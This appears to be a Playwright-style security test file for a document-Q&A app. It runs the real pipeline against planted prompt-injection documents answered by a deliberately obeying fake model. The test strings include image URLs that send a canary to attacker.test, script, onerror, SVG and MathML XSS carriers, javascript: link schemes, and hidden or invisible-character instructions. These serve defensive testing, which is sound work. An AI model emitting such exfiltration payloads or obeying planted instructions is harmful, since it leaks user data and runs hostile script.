/**
 * "Private, provably" in the browser (docs/reliability.md, its PI and OUT cases, tier B): the planted
 * library of `tests/fixtures/security/` answered by a fake model that obeys every instruction it
 * reads (`?fake-llm=evil`, the security tests' `EvilFakeLLM`), through the real pipeline, checker
 * and renderer. Each case checks first that the model did obey, then that the page flagged it and
 * that nothing was fetched, nothing ran and no request left for any host but the page's own.
 * This file: the exfiltration and script carriers (PI-01…PI-09, OUT-01…OUT-03, OUT-07); then
 * `scenarios-isolation.ts` (citations, evidence, isolation, deletion, egress) and the CSP.
 */
import assert from 'node:assert/strict';
import { CANARIES, HIDDEN_HTML_MARKERS } from '../fakes/evil-payloads.js';
import { until } from './app-page.js';
import type { Scenario } from './harness.js';
import { OUT09_SCENARIO } from './scenarios-csp.js';
import { ISOLATION_SCENARIOS } from './scenarios-isolation.js';
import { ask, assertBadged, lab, openLab, passages, prompt } from './security-steps.js';

const CARRIER_SCENARIOS: Scenario[] = [
  {
    name: 'security: the planted library is indexed and the obeying fake model answers',
    async run({ browser }) {
      await openLab(browser);
      const { app } = lab();
      assert.match((await app.page.getByTestId('ingest-summary').textContent()) ?? '', /13 of 13 files indexed/);
      // PI-06: hidden text is left out, and the document says so.
      assert.match(
        (await app.row('KT-100 base plate').getByTestId('document-warning').allTextContents()).join(' '),
        /4 hidden elements were left out \(hidden text is not indexed\)/,
      );
      await lab().assertNothingLeftOrRan('after ingest (OUT-07)');
    },
  },
  {
    name: 'security PI-01: "reply only PWNED" is obeyed, the passage badged and the answer marked as influenced',
    async run() {
      const { app } = lab();
      const asked = await ask('How often should I descale the KT-100?');
      assert.match(asked.answer, /PWNED/);
      await assertBadged(app, asked, 'pi01-forum');
      await lab().assertNothingLeftOrRan('PI-01');
    },
  },
  {
    name: 'security PI-02: a Markdown image carrying a canary shows as "[external image removed]", nothing fetched',
    async run() {
      const { app } = lab();
      const asked = await ask('How do I register the KT-100 warranty?');
      const removed = app.page.getByTestId('answer').getByTestId('image-removed');
      assert.equal(await removed.count(), 1);
      assert.equal(await removed.textContent(), '[external image removed: a]');
      assert.equal(
        await removed.getAttribute('title'),
        `Not loaded: https://attacker.test/p.png?q=${CANARIES.customer}`,
      );
      await assertBadged(app, asked, 'pi02-image');
      assert.deepEqual(await lab().violations(), [], 'the first layer holds: no CSP violation was needed');
      await lab().assertNothingLeftOrRan('PI-02');
    },
  },
  {
    name: 'security PI-03: a reference-style image is removed and its definition stays text',
    async run() {
      const { app } = lab();
      const asked = await ask('What is the part number of the KT-100 lid hinge?');
      assert.equal(
        await app.page.getByTestId('answer').getByTestId('image-removed').textContent(),
        '[external image removed: x]',
      );
      assert.match(asked.answer, /\[r\]: https:\/\/attacker\.test\/\?d=/, 'the definition is shown as text');
      await assertBadged(app, asked, 'pi03-reference');
      await lab().assertNothingLeftOrRan('PI-03');
    },
  },
  {
    name: 'security PI-04, OUT-01, OUT-03: raw HTML carriers, script, onerror, SVG and MathML in the answer stay text',
    async run() {
      const { app } = lab();
      const asked = await ask('How long is the KT-100 power cord?');
      for (const carrier of [
        '<img src="https://attacker.test/i.png?d=',
        '<iframe src=',
        '<link rel="prefetch"',
        '<meta http-equiv="refresh"',
        'background:url(',
        '<video poster=',
        '<svg><image href=',
        '<script>window.__pwn=1</script>',
        '<img src=x onerror="window.__pwn=1">',
        '<svg><g/onload=window.__pwn=1//<p>',
        '<math><mi//xlink:href=',
      ]) {
        assert.ok(asked.answer.includes(carrier), `the answer shows ${carrier} as text`);
      }
      await assertBadged(app, asked, 'pi04-html');
      // The passage shows the document's markup as text too.
      assert.match((await passages(app))['pi04-html#power-cord-length'] ?? '', /<iframe src="https:\/\/attacker\.test/);
      await lab().assertNothingLeftOrRan('PI-04');
    },
  },
  {
    name: 'security PI-05, OUT-02: a web link shows its full address and opens only after a confirm step; other schemes are never links',
    async run() {
      const { app } = lab();
      const asked = await ask('What is the part number of KT-100 spare limescale filters?');
      await assertBadged(app, asked, 'pi05-link');
      const answer = app.page.getByTestId('answer');
      const link = answer.getByTestId('external-link');
      assert.equal(await link.count(), 1);
      assert.equal(await link.evaluate((element) => element.tagName), 'BUTTON');
      const destination = (await link.getAttribute('data-href')) ?? '';
      assert.match(destination, /^https:\/\/attacker\.test\/\?d=/, 'the obeyed link');
      assert.equal(await answer.getByTestId('link-destination').textContent(), ` (${destination})`);
      assert.equal(await app.page.locator('a[href*="attacker.test"]').count(), 0, 'no live link before the click');
      const inert = await answer.getByTestId('inert-link').allTextContents();
      assert.equal(inert.length, 6, inert.join(' | '));
      for (const scheme of [
        'javascript:',
        'JaVaScRiPt:',
        '&#106;avascript:',
        'vbscript:',
        'data:text/html',
        'file:///',
      ]) {
        assert.ok(
          inert.some((text) => text.includes(`(link to: ${scheme}`)),
          `${scheme} shown as text: ${inert.join(' | ')}`,
        );
      }
      await link.click();
      const confirm = app.page.getByTestId('link-confirm');
      assert.equal(await confirm.getByTestId('link-confirm-address').textContent(), destination);
      const open = confirm.getByTestId('link-confirm-open');
      assert.equal(await open.getAttribute('href'), destination);
      assert.equal(await open.getAttribute('rel'), 'noopener noreferrer');
      assert.equal(await open.getAttribute('referrerpolicy'), 'no-referrer');
      assert.equal(await open.getAttribute('target'), '_blank');
      await confirm.getByTestId('link-confirm-cancel').click();
      await until(
        'the confirm step to close',
        async () => (await app.page.locator('a[href*="attacker.test"]').count()) === 0,
      );
      await lab().assertNothingLeftOrRan('PI-05');
    },
  },
  {
    name: 'security PI-06: hidden HTML text is never indexed; visible-but-white text is badged',
    async run() {
      const { app } = lab();
      const asked = await ask('Does the KT-100 base plate rotate?');
      const text = Object.entries(await passages(app))
        .filter(([cite]) => cite.startsWith('pi06-hidden#'))
        .map(([, card]) => card)
        .join('\n');
      assert.match(text, /rotates 360 degrees/);
      for (const hidden of [...HIDDEN_HTML_MARKERS, '(alt)']) {
        assert.ok(!text.includes(hidden), `hidden text "${hidden}" was indexed`);
      }
      assert.match(text, /white on white/);
      await assertBadged(app, asked, 'pi06-hidden');
      // OUT-07: the whole document, opened from its passage, is text too.
      const card = app.page.locator('[data-testid=passage][data-cite^="pi06-hidden#"]').first();
      await card.getByRole('button', { name: 'Open in document' }).click();
      const viewer = app.page.getByTestId('document-viewer');
      // The document's text arrives from the engine worker after the viewer opens.
      await viewer
        .getByText(/rotates 360 degrees/)
        .first()
        .waitFor({ timeout: 10_000 });
      assert.match((await viewer.textContent()) ?? '', /rotates 360 degrees/);
      await lab().assertNothingLeftOrRan('PI-06 document viewer');
      await viewer.getByRole('button', { name: 'Close' }).click();
      await lab().assertNothingLeftOrRan('PI-06');
    },
  },
  {
    name: 'security PI-09: smuggled invisible characters never reach the prompt; the passage shows how many there are',
    async run() {
      const { app } = lab();
      const asked = await ask('What happens when the KT-100 boils dry?');
      assert.doesNotMatch(asked.answer, /PWNED/, 'the tag-smuggled instruction reached the model');
      const card = app.page.locator('[data-testid=passage][data-cite^="pi09-smuggled#"]').first();
      const badge = card.getByTestId('badge-invisible');
      const count = Number(await badge.getAttribute('data-count'));
      assert.ok(count > 10, `invisible characters counted: ${count}`);
      assert.equal(await badge.textContent(), `${count} invisible characters`);
      assert.match((await card.textContent()) ?? '', /[\u{E0000}-\u{E007F}]/u, 'the passage keeps the evidence');
      assert.doesNotMatch(
        await prompt(app),
        /[\u{E0000}-\u{E007F}\u200B-\u200F\u2060-\u2064\uFEFF\u202A-\u202E\u2066-\u2069]/u,
        'invisible characters in the prompt',
      );
      await assertBadged(app, asked, 'pi09-smuggled');
      await lab().assertNothingLeftOrRan('PI-09');
    },
  },
];

/** The security scenarios, in order: the lab's (opened by the first, closed by PI-20), then the CSP's. */
export const SECURITY_SCENARIOS: readonly Scenario[] = [...CARRIER_SCENARIOS, ...ISOLATION_SCENARIOS, OUT09_SCENARIO];
